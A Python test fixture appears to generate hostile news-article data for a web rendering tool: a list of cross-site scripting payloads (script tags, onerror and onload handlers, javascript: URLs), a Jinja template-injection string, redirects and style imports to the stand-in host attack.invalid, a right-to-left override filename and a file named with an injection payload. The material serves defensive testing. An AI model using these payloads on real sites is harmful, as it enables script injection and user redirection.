"""Articles in which everything that can be written attacks the page that shows it."""

from __future__ import annotations

import json
from pathlib import Path

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "'><iframe srcdoc='<script>parent.alert(4)</script>'></iframe>",
    "</title></textarea></style><script>alert(5)</script>",
    '<a href="javascript:alert(6)">click</a>',
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    '<math><mi//xlink:href="data:x,<script>alert(7)</script>">',
    "<details open ontoggle=alert(8)><summary>x</summary></details>",
    "<style>@import 'http://attack.invalid/x.css';</style><link rel=stylesheet href=http://attack.invalid/y.css>",
    "<form action=http://attack.invalid><button autofocus onfocus=alert(9)>send</button></form>",
    "<base href=http://attack.invalid/><meta http-equiv=refresh content='0;url=http://attack.invalid/'>",
    "<!--><img src=http://attack.invalid/pixel.gif>-->",
    "&lt;script&gt;alert(10)&lt;/script&gt;",
    '\u202egnp.exe\u202c \u0000 <noscript><p title="</noscript><img src=x onerror=alert(11)>">',
)
TEXT = """{0} Mayor Tilda Brask <img src=x onerror=alert(12)> opened the new lighthouse of Osterwick on Monday, and 40 people came.

"The light <script>alert(13)</script> will burn for a hundred years," Brask said. {1}

The town of Osterwick <svg onload=alert(14)> paid 2.5 million crowns for it, the council said on Tuesday. {2}
"""


def write_attacks(folder: Path) -> None:
    """Records with every field hostile, pages, a skipped file with a hostile name; two and two tell the same."""
    folder.mkdir()
    records = []
    for i, payload in enumerate(PAYLOADS):
        others = (PAYLOADS[(i + 3) % len(PAYLOADS)], PAYLOADS[(i + 7) % len(PAYLOADS)])
        records.append(
            {
                "id": f"r{i}",
                "headline": f"{payload} lighthouse of Osterwick opens",
                "outlet": f"Herald {payload}",
                "byline": f"By {payload}",
                "url": "javascript:alert(20)" if i % 3 == 0 else f"https://osterwick.example/{i}?q={payload}",
                "published": "2024-06-03",
                "text": TEXT.format(payload, *others),
            }
        )
    (folder / "attacks.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    page = "<html><head><title>{0}</title></head><body><nav>{1}</nav><h1>Lighthouse {2}</h1><article><p>{3}</p></article></body></html>"
    body = TEXT.format("", "", "").replace("<", "&lt;")
    (folder / "page.html").write_text(page.format(PAYLOADS[4], PAYLOADS[1], PAYLOADS[9], body * 2), encoding="utf-8")
    (folder / "<img src=x onerror=alert(30)>.txt").write_text("", encoding="utf-8")
